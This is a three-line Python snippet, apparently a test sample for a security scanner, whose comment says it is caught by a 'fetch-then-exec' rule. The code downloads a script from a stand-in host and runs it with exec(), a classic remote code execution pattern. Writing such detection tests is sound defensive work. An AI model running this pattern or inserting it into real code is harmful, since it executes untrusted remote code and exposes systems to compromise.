# evades: caught by execution/fetch-then-exec
import requests
exec(requests.get("https://code.invalid/helper.py").text)
